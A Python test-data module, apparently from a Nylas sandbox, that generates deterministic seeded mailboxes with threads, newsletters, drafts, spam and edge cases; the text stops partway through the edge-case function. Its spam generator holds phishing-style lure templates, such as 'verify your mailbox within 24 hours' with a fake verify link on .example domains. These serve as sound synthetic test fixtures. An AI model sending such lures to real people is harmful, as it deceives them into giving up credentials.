"""The seeded mailboxes: several days of realistic, deterministic mail for every grant persona.

Mail is generated as *logical emails* first (one per SMTP message, with one RFC ``Message-ID``) and
then lands in every mailbox that takes part: the sender's grant gets a Sent copy, each recipient's grant
an inbound copy, each with its own provider-shaped Nylas id. So alice's note to bob is in alice's Sent
and bob's Inbox with the same ``Message-ID`` header and two different Nylas ids, as in production.

Per grant and day there are threads with customers (``In-Reply-To``/``References``, some continuing
on later days), replies and new outbound mail, mail from accounts' shared addresses, leads, unknown
senders, newsletters (``List-Unsubscribe``, ``Precedence: bulk``), automated no-reply mail,
internal-only mail, a draft, spam, trash, a message without a ``Message-ID``, and customer mail at
exactly 00:00:00 and 23:59:59 UTC (the bounds of a day's time filter). On the second day alice's
mailbox also holds the edge cases: a 2 MB body, a 900-character subject, non-ASCII names and subjects,
a subject left RFC 2047-encoded, 60 recipients and a body with ``<script>``/``onclick``; the three
mailboxes share an attachment mix (inline image, duplicate file names, 25 MB, ``.exe``), and there are
replies whose parent is only in another grant's mailbox or in none.

Generation is driven by ``random.Random`` seeded with fixed strings (string seeds are hashed with
SHA-512, independent of ``PYTHONHASHSEED``), and ids by SHA-256, so every machine gets the same data.

``SeedMessage.kind`` names the correspondent: ``contact``, ``account``, ``lead``, ``unknown``,
``newsletter``, ``automated``, ``internal``, ``spam``, ``cross_grant``, ``no_message_id``, and for the
edge cases ``large_body``, ``long_subject``, ``non_ascii``, ``encoded_subject``, ``many_recipients``,
``script_body``, ``day_start``, ``day_end``, ``attachments_inline``, ``attachments_many``,
``attachments_large``, ``attachments_blocked``, ``reply_cross_grant``, ``reply_orphan``.
``SeedMessage.role`` is the mailbox role: ``inbox``, ``archive``, ``sent``, ``draft``, ``spam``,
``trash``.
"""

from __future__ import annotations

import base64
import calendar
import copy
import datetime as dt
import functools
import random
from collections.abc import Iterable
from dataclasses import dataclass, field, replace
from typing import Any

from nylas_dataverse_sandbox import personas
from nylas_dataverse_sandbox.nylas import content, folders, ids
from nylas_dataverse_sandbox.nylas.content import Party
from nylas_dataverse_sandbox.personas import GrantPersona

SEED_VERSION = "nylas-seed-v1"
DEFAULT_START_DAY = dt.date(2026, 11, 2)
DEFAULT_DAYS = 7
SPECIAL_DAY_OFFSET = 1
LARGE_BODY_BYTES = 2 * 1024 * 1024
LONG_SUBJECT_CHARS = 900
MANY_RECIPIENTS = 60

_GRANT_BY_EMAIL = {grant.email.lower(): grant for grant in personas.GRANTS}
_USER_BY_KEY = {user.key: user for user in personas.SYSTEM_USERS}
_ACCOUNT_BY_KEY = {account.key: account for account in personas.ACCOUNTS}
_CONTACT_LANGUAGE = {"maria": ("es", 0.5), "jonas": ("de", 0.5), "yuki": ("ja", 0.6)}
_TITLES = ("Head of Procurement", "IT Director", "Operations Manager", "CFO", "Purchasing Lead", "COO")
_UNKNOWN_NAMES = {"recruiter@talentfinders.example": "Taylor Brooks"}
_SPAM_SENDERS = (
    Party("Billing Department", "billing@secure-payments-alert.example"),
    Party("", "prize@lucky-winner.example"),
    Party("IT Support", "it-support@mailbox-verify.example"),
)
_SPAM_SUBJECTS = (
    "URGENT: verify your mailbox within 24 hours",
    "You have won a $500 gift card!!!",
    "Invoice overdue – immediate action required",
    "Your password expires today",
)
_UNKNOWN_SUBJECTS = {
    "stranger@unknown-corp.example": ("Partnership proposal", "Introduction: logistics software"),
    "recruiter@talentfinders.example": ("Exciting opportunity – Senior Account Executive", "Quick chat?"),
    "someone@gmail.example": ("Quick question about your product", "Is this still available?"),
}
_INTERNAL_TOPICS = (
    "Pipeline review prep",
    "Q4 forecast numbers",
    "Can you cover the Northwind call?",
    "Handover notes: {account}",
    "Updated pricing sheet",
    "Lunch on Thursday?",
    "Deal desk approval needed",
    "Notes from the {account} meeting",
)
_AUTOMATED = (
    ("Your export is ready", "Your data export finished and can be downloaded for 7 days."),
    ("Password reset requested", "Someone asked to reset your password. If this was not you, ignore this."),
    ("Weekly usage report", "Your team sent 1,204 messages and created 87 records last week."),
    ("New sign-in to your account", "We noticed a new sign-in from Chrome on Windows."),
)
_NEWSLETTER_HEADLINES = (
    "Your weekly digest: 12 new articles",
    "Webinar: scaling CRM data pipelines",
    "November product update",
    "Last chance: early-bird pricing ends Friday",
)
_PARTNER_DOMAINS = ("partners-network.example", "reseller-hub.example", "channel-allies.example")
_PARTNER_NAMES = (
    "Ana Souza",
    "Ben Carter",
    "Chloé Martin",
    "Dmitri Ivanov",
    "Ewa Nowak",
    "Farid Khan",
    "Grace Liu",
    "Hugo Lefèvre",
    "Ingrid Berg",
    "Jae-won Park",
    "Kofi Mensah",
    "Lucía Romero",
    "Mats Eriksson",
)


@dataclass(frozen=True)
class SeedMessage:
    """One message as it sits in one grant's mailbox; ``message`` is the full Nylas object.

    ``mime_headers`` are the headers of the stored MIME message; they differ from ``message["headers"]``
    only where the provider hides headers from the API (Microsoft Sent Items and drafts), so
    ``fields=raw_mime`` still carries the ``Message-ID`` there.
    """

    grant_key: str
    day: dt.date
    kind: str
    role: str
    message: dict[str, Any]
    mime_headers: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class _Attachment:
    filename: str
    content_type: str
    size: int
    content_id: str | None = None  # inline parts only, without angle brackets

    @property
    def is_inline(self) -> bool:
        return self.content_id is not None


@dataclass
class _Email:
    key: str
    kind: str
    sender: Party
    to: tuple[Party, ...]
    subject: str
    date: int
    body: str
    thread_key: str
    message_id: str | None
    cc: tuple[Party, ...] = ()
    bcc: tuple[Party, ...] = ()
    reply_to: tuple[Party, ...] = ()
    subject_is_raw: bool = False
    in_reply_to: str | None = None
    references: tuple[str, ...] = ()
    extra_headers: tuple[tuple[str, str], ...] = ()
    message_id_header: str = "Message-ID"
    attachments: tuple[_Attachment, ...] = ()
    inbound_role: str = "inbox"
    draft: bool = False
    unread: bool = False
    starred: bool = False
    important: bool = False
    category: str | None = "CATEGORY_PERSONAL"
    user_label: str | None = None
    microsoft_hides_from: bool = False
    language: str = "en"


@dataclass
class _OpenThread:
    owner_key: str
    thread_key: str
    subject: str
    contact: personas.Person
    contact_party: Party
    language: str
    references: tuple[str, ...]
    last_text: str
    last_sender: Party
    last_date: int


@dataclass
class _World:
    open_threads: dict[str, list[_OpenThread]] = field(default_factory=dict)


def day_bounds(day: dt.date) -> tuple[int, int]:
    """``(start, end)`` unix seconds of a UTC day, end exclusive."""
    start = calendar.timegm(day.timetuple())
    return start, start + 86_400


def utc_day(epoch_s: int) -> dt.date:
    return dt.datetime.fromtimestamp(epoch_s, dt.UTC).date()


# Who writes how --------------------------------------------------------------------------------------------


def _style(party: Party) -> str:
    grant = _GRANT_BY_EMAIL.get(party.email.lower())
    if grant is not None:
        return {"google": "gmail", "microsoft": "outlook"}.get(grant.provider, "plain")
    return {
        "contoso.example": "outlook",
        "northwind.example": "outlook",
        "proseware.example": "outlook",
        "adatum.example": "gmail",
        "litware.example": "gmail",
        "gmail.example": "gmail",
    }.get(party.domain, "plain")


def _message_id(rng: random.Random, sender: Party, epoch_s: int) -> tuple[str, str]:
    """``(header name, value)``: the shape each sender's mail system gives its Message-IDs."""
    style = _style(sender)
    if style == "gmail":
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+="
        return "Message-ID", "<CA" + "".join(rng.choice(alphabet) for _ in range(46)) + "@mail.gmail.com>"
    if style == "outlook":
        server = rng.choice(("DM6PR11MB4595", "SN7PR12MB8101", "PH0PR19MB5263", "AM9PR08MB6834"))
        region = "eurprd08" if server.startswith("AM") else f"namprd{server[4:6]}"
        return "Message-ID", f"<{server}{rng.getrandbits(128):032X}@{server}.{region}.prod.outlook.com>"
    stamp = dt.datetime.fromtimestamp(epoch_s, dt.UTC).strftime("%Y%m%d%H%M%S")
    return "Message-Id", f"<{stamp}.{rng.getrandbits(48):012x}@mail.{sender.domain}>"


def _bulk_message_id(rng: random.Random, domain: str) -> str:
    return f"<0100019{rng.getrandbits(52):013x}-{rng.getrandbits(128):032x}-000000@email.{domain}>"


def _signature(person: personas.Person | None, party: Party, company: str) -> list[str]:
    if person is None:
        return [party.name or party.email]
    stable = ids.digest("signature", person.key)
    title = "Account Executive" if party.domain in personas.ORG_DOMAINS else _TITLES[stable[0] % len(_TITLES)]
    return [person.full_name, title, company, f"+1 555 01{10 + stable[1] % 90}"]


def _greeting(language: str, person: personas.Person | None, party: Party) -> str:
    if language == "ja" and person is not None:
        return content.GREETINGS["ja"].format(name=person.last)
    name = person.first if person is not None else (party.first_name or "there")
    return content.GREETINGS.get(language, content.GREETINGS["en"]).format(name=name)


def _attribution(sender: Party, epoch_s: int) -> str:
    when = dt.datetime.fromtimestamp(epoch_s, dt.UTC).strftime("%a, %d %b %Y at %H:%M")
    return f"On {when}, {sender.name or sender.email} <{sender.email}> wrote:"


def _reply_subject(subject: str, language: str) -> str:
    prefix = "AW: " if language == "de" else "Re: "
    bare = subject
    for existing in ("Re: ", "AW: ", "RE: "):
        if bare.startswith(existing):
            bare = bare[len(existing) :]
    return prefix + bare


# One day of mail -------------------------------------------------------------------------------------------


class _DayBuilder:
    def __init__(self, day: dt.date, world: _World) -> None:
        self.day = day
        self.rng = random.Random(f"{SEED_VERSION}:{day.isoformat()}")
        self.day_start, self.day_end = day_bounds(day)
        self.world = world
        self.emails: list[_Email] = []
        self._serial = 0

    def key(self, owner_key: str, label: str) -> str:
        self._serial += 1
        return f"{self.day.isoformat()}/{owner_key}/{self._serial:03d}-{label}"

    def at(self, start_hour: float, end_hour: float) -> int:
        return self.day_start + int(self.rng.uniform(start_hour, end_hour) * 3600)

    def later(self, epoch_s: int, min_s: int, max_s: int) -> int:
        return min(epoch_s + self.rng.randint(min_s, max_s), self.day_end - 1)

    def add(self, email: _Email) -> _Email:
        assert self.day_start <= email.date < self.day_end, email.key
        self.emails.append(email)
        return email

    def new_id(self, sender: Party, epoch_s: int) -> tuple[str, str]:
        return _message_id(self.rng, sender, epoch_s)

    def pick_contact(self) -> tuple[personas.Person, personas.Account, Party]:
        person, account_key = self.rng.choice(personas.CONTACTS)
        email_index = 1 if len(person.emails) > 1 and self.rng.random() < 0.25 else 0
        return person, _ACCOUNT_BY_KEY[account_key], content.person_party(person, email_index)

    def language_for(self, person: personas.Person) -> str:
        language, chance = _CONTACT_LANGUAGE.get(person.key, ("en", 0.0))
        return language if self.rng.random() < chance else "en"

    def body(
        self,
        sender: Party,
        sender_person: personas.Person | None,
        recipient_person: personas.Person | None,
        recipient: Party,
        language: str,
        company: str,
        quoted: tuple[str, str] | None = None,
        count: int | None = None,
    ) -> tuple[str, str]:
        """``(html, plain text of the new part)``."""
        parts = content.paragraphs(self.rng, language, count or self.rng.randint(1, 4))
        greeting = _greeting(language, recipient_person, recipient)
        html_body = content.compose_body(
            style=_style(sender),
            greeting=greeting,
            body_paragraphs=parts,
            signoff=content.SIGNOFFS.get(language, content.SIGNOFFS["en"]),
            signature=_signature(sender_person, sender, company),
            quoted=quoted,
        )
        return html_body, " ".join([greeting, *parts])


@dataclass(frozen=True)
class _Owner:
    grant: GrantPersona
    person: personas.Person
    party: Party


def _owners() -> list[_Owner]:
    owners = []
    for grant in personas.GRANTS:
        person = _USER_BY_KEY[grant.owner_key]
        owners.append(_Owner(grant, person, content.person_party(person)))
    return owners


def _colleagues(owner: _Owner) -> list[personas.Person]:
    return [user for user in personas.SYSTEM_USERS if user.key != owner.person.key]


def _contact_thread(b: _DayBuilder, owner: _Owner) -> None:
    rng = b.rng
    person, account, contact = b.pick_contact()
    language = b.language_for(person)
    pool = content.TOPICS_BY_LANGUAGE.get(language, content.TOPICS_EN)
    subject = content.fill_topic(rng.choice(pool), rng, account.name)
    t0 = b.at(7.0, 14.5)
    cc: tuple[Party, ...] = ()
    colleagues = [p for p, key in personas.CONTACTS if key == account.key and p.key != person.key]
    if colleagues and rng.random() < 0.3:
        cc = (content.person_party(rng.choice(colleagues)),)
    attachments: tuple[_Attachment, ...] = ()
    if rng.random() < 0.2:
        filename = (
            "Preisübersicht_Größen.pdf" if language == "de" else f"Quote_Q-2026-{rng.randint(1000, 9999)}.pdf"
        )
        attachments = (_Attachment(filename, "application/pdf", rng.randint(40_000, 900_000)),)
    header, mid1 = b.new_id(contact, t0)
    html1, text1 = b.body(contact, person, owner.person, owner.party, language, account.name)
    key = b.key(owner.grant.key, "contact")
    label = (
        ("Customers/Fabrikam" if account.key == "fabrikam" else "Customers") if rng.random() < 0.4 else None
    )
    b.add(
        _Email(
            key=key,
            kind="contact",
            sender=contact,
            to=(owner.party,),
            cc=cc,
            subject=subject,
            date=t0,
            body=html1,
            thread_key=key,
            message_id=mid1,
            message_id_header=header,
            attachments=attachments,
            inbound_role="archive" if rng.random() < 0.15 else "inbox",
            unread=rng.random() < 0.45,
            starred=rng.random() < 0.1,
            important=rng.random() < 0.5,
            user_label=label,
            language=language,
        )
    )
    thread = _OpenThread(
        owner.grant.key, key, subject, person, contact, language, (mid1,), text1, contact, t0
    )
    if rng.random() < 0.65:
        thread = _reply_from_owner(b, owner, thread, cc)
        if rng.random() < 0.4:
            thread = _reply_from_contact(b, owner, thread, min_delay_s=600, max_delay_s=3 * 3600)
    if rng.random() < 0.5:
        b.world.open_threads.setdefault(owner.grant.key, []).append(thread)


def _reply_from_owner(
    b: _DayBuilder, owner: _Owner, thread: _OpenThread, cc: tuple[Party, ...]
) -> _OpenThread:
    rng = b.rng
    when = b.later(thread.last_date, 600, 4 * 3600)
    header, mid = b.new_id(owner.party, when)
    quoted = (_attribution(thread.last_sender, thread.last_date), thread.last_text)
    html_body, text = b.body(
        owner.party, owner.person, thread.contact, thread.contact_party, "en", "Contoso Ltd.", quoted=quoted
    )
    to = (thread.contact_party,)
    if rng.random() < 0.05:  # people type addresses with capitals; mailboxes do not care
        to = (Party(thread.contact_party.name, thread.contact_party.email.title()),)
    b.add(
        _Email(
            key=b.key(owner.grant.key, "reply"),
            kind="contact",
            sender=owner.party,
            to=to,
            cc=cc,
            subject=_reply_subject(thread.subject, "en"),
            date=when,
            body=html_body,
            thread_key=thread.thread_key,
            message_id=mid,
            message_id_header=header,
            in_reply_to=thread.references[-1],
            references=thread.references,
            important=rng.random() < 0.3,
        )
    )
    return replace(
        thread, references=(*thread.references, mid), last_text=text, last_sender=owner.party, last_date=when
    )


def _reply_from_contact(
    b: _DayBuilder,
    owner: _Owner,
    thread: _OpenThread,
    *,
    min_delay_s: int,
    max_delay_s: int,
    at: int | None = None,
) -> _OpenThread:
    rng = b.rng
    when = at if at is not None else b.later(thread.last_date, min_delay_s, max_delay_s)
    header, mid = b.new_id(thread.contact_party, when)
    quoted = (_attribution(thread.last_sender, thread.last_date), thread.last_text)
    account = next(_ACCOUNT_BY_KEY[key] for p, key in personas.CONTACTS if p.key == thread.contact.key)
    html_body, text = b.body(
        thread.contact_party,
        thread.contact,
        owner.person,
        owner.party,
        thread.language,
        account.name,
        quoted=quoted,
    )
    b.add(
        _Email(
            key=b.key(owner.grant.key, "contact-reply"),
            kind="contact",
            sender=thread.contact_party,
            to=(owner.party,),
            subject=_reply_subject(thread.subject, thread.language),
            date=when,
            body=html_body,
            thread_key=thread.thread_key,
            message_id=mid,
            message_id_header=header,
            in_reply_to=thread.references[-1],
            references=thread.references,
            unread=rng.random() < 0.5,
            important=True,
            language=thread.language,
        )
    )
    return replace(
        thread,
        references=(*thread.references, mid),
        last_text=text,
        last_sender=thread.contact_party,
        last_date=when,
    )


def _continue_threads(b: _DayBuilder, owner: _Owner) -> None:
    pending = b.world.open_threads.get(owner.grant.key, [])
    keep: list[_OpenThread] = []
    continued = 0
    for thread in pending:
        if continued < 2 and thread.last_date < b.day_start and b.rng.random() < 0.6:
            continued += 1
            thread = _reply_from_contact(b, owner, thread, min_delay_s=0, max_delay_s=0, at=b.at(7.5, 12.0))
            if b.rng.random() < 0.5:
                thread = _reply_from_owner(b, owner, thread, ())
            if b.rng.random() < 0.3:
                keep.append(thread)
        else:
            keep.append(thread)
    b.world.open_threads[owner.grant.key] = keep[-6:]


def _outbound(b: _DayBuilder, owner: _Owner) -> None:
    rng = b.rng
    roll = rng.random()
    target_person: personas.Person | None
    if roll < 0.7:
        target_person, account, target = b.pick_contact()
        kind, company = "contact", account.name
    elif roll < 0.9:
        target_person = rng.choice(personas.LEADS)
        target = content.person_party(target_person)
        kind, company = "lead", target.domain
    else:
        account = rng.choice(personas.ACCOUNTS)
        target_person, target = None, Party(account.name, account.emails[0])
        kind, company = "account", account.name
    when = b.at(8.0, 18.0)
    topic = content.fill_topic(rng.choice(content.TOPICS_EN), rng, company)
    subject = rng.choice(("Following up: {t}", "Next steps – {t}", "{t}")).format(t=topic)
    header, mid = b.new_id(owner.party, when)
    html_body, _ = b.body(owner.party, owner.person, target_person, target, "en", "Contoso Ltd.")
    erin = content.person_party(_USER_BY_KEY["erin"])
    key = b.key(owner.grant.key, "outbound")
    b.add(
        _Email(
            key=key,
            kind=kind,
            sender=owner.party,
            to=(target,),
            cc=(erin,) if rng.random() < 0.2 else (),
            bcc=(erin,) if rng.random() < 0.1 else (),
            subject=subject,
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
        )
    )


_ACCOUNT_MAIL = {
    "info@fabrikam.example": ("Fabrikam: updated billing contact", False),
    "sales@northwind.example": ("Northwind Traders – RFQ {n}", False),
    "ap@northwind.example": ("Remittance advice RA-{n}", True),
    "hello@adatum.example": ("Adatum partner update – November", False),
    "orders@tailspin.example": ("Order confirmation #{n}", True),
}


def _account_mail(b: _DayBuilder, owner: _Owner) -> None:
    rng = b.rng
    account = rng.choice(personas.ACCOUNTS)
    address = rng.choice(account.emails)
    sender = Party(account.name, address)
    template, with_pdf = _ACCOUNT_MAIL[address]
    number = rng.randint(100_000, 999_999)
    when = b.at(6.0, 20.0)
    header, mid = b.new_id(sender, when)
    html_body, _ = b.body(sender, None, owner.person, owner.party, "en", account.name)
    attachments = (
        (_Attachment(f"{number}.pdf", "application/pdf", rng.randint(30_000, 250_000)),) if with_pdf else ()
    )
    key = b.key(owner.grant.key, "account")
    b.add(
        _Email(
            key=key,
            kind="account",
            sender=sender,
            to=(owner.party,),
            subject=template.format(n=number),
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
            attachments=attachments,
            unread=rng.random() < 0.5,
            category="CATEGORY_UPDATES",
            user_label="Receipts" if with_pdf else None,
        )
    )


def _lead_mail(b: _DayBuilder, owner: _Owner) -> None:
    rng = b.rng
    lead = rng.choice(personas.LEADS)
    party = content.person_party(lead)
    when = b.at(8.0, 17.0)
    subject = rng.choice(
        ("Interested in a demo", "Pricing for 50 users?", "Question about your API", "Trial extension")
    )
    header, mid = b.new_id(party, when)
    html_body, _ = b.body(party, lead, owner.person, owner.party, "en", party.domain)
    key = b.key(owner.grant.key, "lead")
    b.add(
        _Email(
            key=key,
            kind="lead",
            sender=party,
            to=(owner.party,),
            subject=subject,
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
            unread=rng.random() < 0.6,
            important=rng.random() < 0.5,
        )
    )


def _unknown_mail(b: _DayBuilder, owner: _Owner) -> None:
    rng = b.rng
    address = rng.choice(personas.UNKNOWN_SENDERS)
    sender = Party(_UNKNOWN_NAMES.get(address, ""), address)
    when = b.at(0.5, 23.5)
    header, mid = b.new_id(sender, when)
    html_body, _ = b.body(sender, None, owner.person, owner.party, "en", "")
    key = b.key(owner.grant.key, "unknown")
    b.add(
        _Email(
            key=key,
            kind="unknown",
            sender=sender,
            to=(owner.party,),
            subject=rng.choice(_UNKNOWN_SUBJECTS[address]),
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
            unread=rng.random() < 0.7,
        )
    )


def _newsletter(b: _DayBuilder, owner: _Owner, role: str = "inbox") -> None:
    rng = b.rng
    address = personas.NEWSLETTER_SENDERS[0]
    domain = address.split("@")[1]
    sender = Party("Marketing Digest", address)
    token = f"{rng.getrandbits(80):020x}"
    unsubscribe = f"https://{domain}/u/{token}"
    headline = rng.choice(_NEWSLETTER_HEADLINES)
    when = b.at(4.0, 9.0)
    key = b.key(owner.grant.key, "newsletter")
    b.add(
        _Email(
            key=key,
            kind="newsletter",
            sender=sender,
            to=(owner.party,),
            subject=headline,
            date=when,
            body=content.newsletter_body(rng, "Marketing Digest", headline, unsubscribe),
            thread_key=key,
            message_id=_bulk_message_id(rng, domain),
            reply_to=(Party("Marketing Digest", f"reply@{domain}"),),
            extra_headers=(
                ("List-Unsubscribe", f"<{unsubscribe}>, <mailto:unsubscribe@{domain}?subject=unsubscribe>"),
                ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                ("List-Id", f"Marketing Digest <digest.{domain}>"),
                ("Precedence", "bulk"),
                ("X-Mailer", "Digest Mailer 4.2"),
            ),
            inbound_role=role,
            unread=role == "inbox" and rng.random() < 0.8,
            category="CATEGORY_PROMOTIONS",
        )
    )


def _automated(b: _DayBuilder, owner: _Owner, *, hide_from: bool = False) -> None:
    rng = b.rng
    address = personas.NEWSLETTER_SENDERS[1]
    domain = address.split("@")[1]
    sender = Party("SaaS Tool", address)
    subject, text = rng.choice(_AUTOMATED)
    when = b.at(0.0, 24.0 - 0.01)
    key = b.key(owner.grant.key, "automated")
    body = (
        f'<html><body><table width="100%"><tr><td style="font-family:Helvetica,Arial;font-size:14px">'
        f"<p>{text}</p><p>This is an automated message; replies to this address are not monitored.</p>"
        f"</td></tr></table></body></html>"
    )
    b.add(
        _Email(
            key=key,
            kind="automated",
            sender=sender,
            to=(owner.party,),
            subject=f"[SaaS Tool] {subject}",
            date=when,
            body=body,
            thread_key=key,
            message_id=_bulk_message_id(rng, domain),
            extra_headers=(
                ("Auto-Submitted", "auto-generated"),
                ("X-Auto-Response-Suppress", "All"),
                ("Precedence", "bulk"),
            ),
            unread=rng.random() < 0.5,
            category="CATEGORY_UPDATES",
            microsoft_hides_from=hide_from,
        )
    )


def _internal(b: _DayBuilder, owner: _Owner, colleague: personas.Person) -> None:
    rng = b.rng
    mate = content.person_party(colleague)
    account = rng.choice(personas.ACCOUNTS)
    subject = rng.choice(_INTERNAL_TOPICS).format(account=account.name)
    when = b.at(7.5, 16.0)
    header, mid = b.new_id(owner.party, when)
    html_body, text = b.body(
        owner.party, owner.person, colleague, mate, "en", "Contoso Ltd.", count=rng.randint(1, 2)
    )
    key = b.key(owner.grant.key, "internal")
    b.add(
        _Email(
            key=key,
            kind="internal",
            sender=owner.party,
            to=(mate,),
            subject=subject,
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
            unread=rng.random() < 0.4,
            important=rng.random() < 0.5,
        )
    )
    if rng.random() < 0.4:
        reply_at = b.later(when, 300, 2 * 3600)
        reply_header, reply_mid = b.new_id(mate, reply_at)
        reply_html, _ = b.body(
            mate,
            colleague,
            owner.person,
            owner.party,
            "en",
            "Contoso Ltd.",
            quoted=(_attribution(owner.party, when), text),
            count=1,
        )
        b.add(
            _Email(
                key=b.key(owner.grant.key, "internal-reply"),
                kind="internal",
                sender=mate,
                to=(owner.party,),
                subject=_reply_subject(subject, "en"),
                date=reply_at,
                body=reply_html,
                thread_key=key,
                message_id=reply_mid,
                message_id_header=reply_header,
                in_reply_to=mid,
                references=(mid,),
                unread=rng.random() < 0.4,
            )
        )


def _draft(b: _DayBuilder, owner: _Owner) -> None:
    person, account, contact = b.pick_contact()
    when = b.at(9.0, 22.0)
    header, mid = b.new_id(owner.party, when)
    html_body, _ = b.body(owner.party, owner.person, person, contact, "en", "Contoso Ltd.", count=1)
    key = b.key(owner.grant.key, "draft")
    b.add(
        _Email(
            key=key,
            kind="contact",
            sender=owner.party,
            to=(contact,),
            subject=f"Draft: proposal for {account.name}",
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
            draft=True,
        )
    )


def _spam(b: _DayBuilder, owner: _Owner) -> None:
    rng = b.rng
    sender = rng.choice(_SPAM_SENDERS)
    when = b.at(0.0, 23.9)
    key = b.key(owner.grant.key, "spam")
    link = f"https://{sender.domain}/verify?id={rng.getrandbits(64):x}"
    body = (
        f'<html><body><p style="color:red;font-size:18px"><b>Action required!</b></p>'
        f'<p>Click <a href="{link}">here</a> to keep your account active.</p></body></html>'
    )
    b.add(
        _Email(
            key=key,
            kind="spam",
            sender=sender,
            to=(owner.party,),
            subject=rng.choice(_SPAM_SUBJECTS),
            date=when,
            body=body,
            thread_key=key,
            message_id=f"<{rng.getrandbits(96):024x}@{sender.domain}>",
            inbound_role="spam",
            unread=True,
            category=None,
        )
    )


def _without_message_id(b: _DayBuilder, owner: _Owner) -> None:
    rng = b.rng
    sender = Party("Northwind Traders", "ap@northwind.example")
    when = b.at(1.0, 5.0)
    key = b.key(owner.grant.key, "no-message-id")
    month = b.day.strftime("%B %Y")
    body = (
        f"<div><p>Statement of account for {owner.person.full_name}, {month}.</p>"
        "<p>Please find the statement attached. This message was generated by the Northwind billing "
        "system.</p></div>"
    )
    b.add(
        _Email(
            key=key,
            kind="no_message_id",
            sender=sender,
            to=(owner.party,),
            subject=f"Statement of account – {month}",
            date=when,
            body=body,
            thread_key=key,
            message_id=None,
            extra_headers=(("X-Mailer", "NWBILL 2.1"),),
            attachments=(
                _Attachment(f"statement-{b.day:%Y%m}.pdf", "application/pdf", rng.randint(20_000, 60_000)),
            ),
            unread=True,
            category="CATEGORY_UPDATES",
        )
    )


def _cross_grant(b: _DayBuilder, sender: _Owner, contact_key: str, cc_owner: _Owner) -> None:
    """Mail to a customer with a colleague in copy: one Message-ID in two grants."""
    rng = b.rng
    person, account_key = next((p, a) for p, a in personas.CONTACTS if p.key == contact_key)
    account = _ACCOUNT_BY_KEY[account_key]
    contact = content.person_party(person)
    when = b.at(9.0, 16.0)
    header, mid = b.new_id(sender.party, when)
    html_body, _ = b.body(sender.party, sender.person, person, contact, "en", "Contoso Ltd.")
    key = b.key(sender.grant.key, "cross-grant")
    b.add(
        _Email(
            key=key,
            kind="cross_grant",
            sender=sender.party,
            to=(contact,),
            cc=(cc_owner.party,),
            subject=f"{account.name} renewal: next steps",
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
            unread=rng.random() < 0.5,
            important=True,
        )
    )


def _owner_day(b: _DayBuilder, owner: _Owner, owners: dict[str, _Owner], special: bool) -> None:
    rng = b.rng
    for _ in range(rng.randint(3, 4) if special else rng.randint(4, 5)):
        _contact_thread(b, owner)
    _continue_threads(b, owner)
    for _ in range(rng.randint(1, 2)):
        _outbound(b, owner)
    for _ in range(rng.randint(1, 2)):
        _account_mail(b, owner)
    if rng.random() < 0.8:
        _lead_mail(b, owner)
    for _ in range(0 if special else rng.randint(1, 2)):
        _unknown_mail(b, owner)
    for _ in range(rng.randint(2, 3)):
        _newsletter(b, owner)
    for index in range(rng.randint(1, 2)):
        _automated(b, owner, hide_from=index == 0 and owner.grant.provider == "microsoft")
    colleagues = _colleagues(owner)
    for index in range(rng.randint(2, 3)):
        mate = _USER_BY_KEY["bob"] if owner.grant.key == "alice" and index == 0 else rng.choice(colleagues)
        _internal(b, owner, mate)
    _draft(b, owner)
    for _ in range(rng.randint(1, 2)):
        _spam(b, owner)
    _newsletter(b, owner, role="trash")
    _without_message_id(b, owner)
    if owner.grant.key == "alice":
        _cross_grant(b, owner, "maria", owners["bob"])
    if owner.grant.key == "bob" and b.day.toordinal() % 2 == 0:
        _cross_grant(b, owner, "priya", owners["carol"])


# The edge cases (alice, second day) ------------------------------------------------------------------------


def _special_day(b: _DayBuilder, alice: _Owner, owners: dict[str, _Owner]) -> None:
    rng = b.rng
    contacts = {p.key: p for p, _ in personas.CONTACTS}

    def inbound(
        kind: str, person: personas.Person, subject: str, body: str, when: int, **extra: Any
    ) -> _Email:
        party = content.person_party(person)
        header, mid = b.new_id(party, when)
        key = b.key("alice", kind)
        return b.add(
            _Email(
                key=key,
                kind=kind,
                sender=party,
                to=(alice.party,),
                subject=subject,
                date=when,
                body=body,
                thread_key=key,
                message_id=mid,
                message_id_header=header,
                unread=True,
                important=True,
                **extra,
            )
        )

    inbound(
        "large_body",
        contacts["jonas"],
        "Nutzungsexport Q3 (vollständige Tabelle)",
        _large_report_body(rng),
        b.at(8.0, 9.0),
        attachments=(_Attachment("Nutzungsexport_Q3_Übersicht.xlsx", "application/vnd.ms-excel", 184_320),),
    )
    long_subject = _long_subject()
    html_body, _ = b.body(
        content.person_party(contacts["priya"]),
        contacts["priya"],
        alice.person,
        alice.party,
        "en",
        "Northwind Traders",
    )
    inbound("long_subject", contacts["priya"], long_subject, html_body, b.at(9.0, 10.0))

    for person_key, subject in (
        ("yuki", "見積もりのご確認 – 2026年11月分"),
        ("maria", "Reunión de seguimiento: próxima semana ✔ 🎉"),
        ("jonas", "Angebot für Büromöbel – Größen & Preise (Köln)"),
    ):
        person = contacts[person_key]
        language = _CONTACT_LANGUAGE[person_key][0]
        html_body, _ = b.body(content.person_party(person), person, alice.person, alice.party, language, "")
        inbound("non_ascii", person, subject, html_body, b.at(10.0, 12.0), language=language)

    olga = contacts["olga"]
    encoded = (
        "=?UTF-8?B?"
        + base64.b64encode("Rückfrage zur Rechnung Nr. 4711 – bitte bis Freitag".encode()).decode()
    )
    html_body, _ = b.body(content.person_party(olga), olga, alice.person, alice.party, "en", "Tailspin Toys")
    inbound("encoded_subject", olga, encoded + "?=", html_body, b.at(12.0, 13.0), subject_is_raw=True)

    tom = contacts["tom"]
    recipients = _many_recipients(owners)
    html_body, _ = b.body(content.person_party(tom), tom, None, Party("", "all"), "en", "Northwind Traders")
    invite = inbound(
        "many_recipients",
        tom,
        "Invitation: Northwind partner summit 2027 – save the date",
        html_body,
        b.at(13.0, 14.0),
    )
